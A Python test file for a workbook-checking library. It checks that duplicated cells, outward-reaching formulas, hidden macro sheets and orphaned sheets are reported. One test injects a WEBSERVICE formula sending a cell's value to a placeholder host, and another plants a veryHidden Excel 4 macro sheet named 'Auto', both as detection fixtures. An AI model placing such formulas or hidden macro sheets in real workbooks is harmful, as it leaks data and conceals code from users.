"""What is odd in a file costs its cell or its sheet, by name, and never the file.

1. A cell that the file writes twice is an error at that cell, its row is not used, and every other row is.
2. Outside the tables it is a warning for its sheet.
3. Formulas that reach out, sheets of macros and sheets without content are named.
4. Nothing of this is said of a workbook without it.
"""

import re
from collections.abc import Callable

import pytest

from tests.support.unit_workbook import SHEET, at, clean
from tests.xlsx.corpus.package import changed, swap
from xlplan.findings import Finding
from xlplan.grid import a1
from xlplan.workflow.opening import Opened, open_workbook

PART = "xl/worksheets/sheet3.xml"
CODES = {"FIL-12", "FIL-13", "FIL-14", "FIL-15", "FIL-16"}


@pytest.fixture(scope="module")
def unit() -> bytes:
    return clean()


def named(opened: Opened) -> list[Finding]:
    return [finding for finding in opened.findings if finding.code in CODES]


def twice(row: int, column: int) -> Callable[[bytes], bytes]:
    """Writes the cell a second time, with another value."""
    cell = re.compile(rb'<c r="%b"[^>]*>.*?</c>' % a1(row, column).encode())
    return lambda part: cell.sub(lambda match: match[0] + re.sub(rb"<v>[^<]*", b"<v>9", match[0]), part, count=1)


def test_a_cell_that_is_written_twice_is_an_error_at_that_cell(unit: bytes) -> None:
    cell = at("actual")
    before, opened = open_workbook(unit, "x"), open_workbook(changed(unit, {PART: twice(cell.row, cell.column)}), "x")
    (finding,) = named(opened)
    assert (finding.code, finding.at) == ("FIL-12", cell)
    assert {one.code for one in opened.errors} == {"FIL-12"}
    assert opened.error_rows == {cell.row}
    rows = {row.row: row for row in before.reading.tables.progress}
    for row in opened.reading.tables.progress:
        assert (row == rows[row.row]) is (row.row != cell.row)


def test_outside_the_tables_it_is_a_warning(unit: bytes) -> None:
    (finding,) = named(open_workbook(changed(unit, {PART: twice(1, 1)}), "x"))
    assert (finding.code, finding.at.sheet, finding.at.row) == ("FIL-13", SHEET, 1)


def test_formulas_that_reach_out_are_named(unit: bytes) -> None:
    row = b'<row r="900"><c r="B900"><f>_xlfn.WEBSERVICE("http://x/?"&amp;A1)</f><v>1</v></c></row></sheetData>'
    (finding,) = named(open_workbook(changed(unit, {PART: swap(b"</sheetData>", row)}), "x"))
    assert (finding.code, finding.at.sheet, finding.at.row) == ("FIL-14", SHEET, 900)
    assert finding.values["functions"] == "WEBSERVICE"


def test_sheets_of_macros_and_sheets_without_content_are_named(unit: bytes) -> None:
    kind = b"http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet"
    line = b'<Relationship Id="rM" Type="%b" Target="macrosheets/sheet1.xml"/></Relationships>' % kind
    listed = (
        b'<sheet name="Auto" sheetId="97" state="veryHidden" r:id="rM"/>'
        b'<sheet name="Module1" sheetId="98" state="veryHidden" r:id=""/>'
        b'<sheet name="Lost" sheetId="99" r:id="rX"/></sheets>'
    )
    data = changed(
        unit,
        {
            "xl/workbook.xml": swap(b"</sheets>", listed),
            "xl/_rels/workbook.xml.rels": swap(b"</Relationships>", line),
        },
    )
    assert {finding.code: finding.values["sheets"] for finding in named(open_workbook(data, "x"))} == {
        "FIL-15": "Auto",
        "FIL-16": "Lost",
    }


def test_nothing_is_said_of_a_sound_workbook(unit: bytes) -> None:
    assert named(open_workbook(unit, "x")) == []
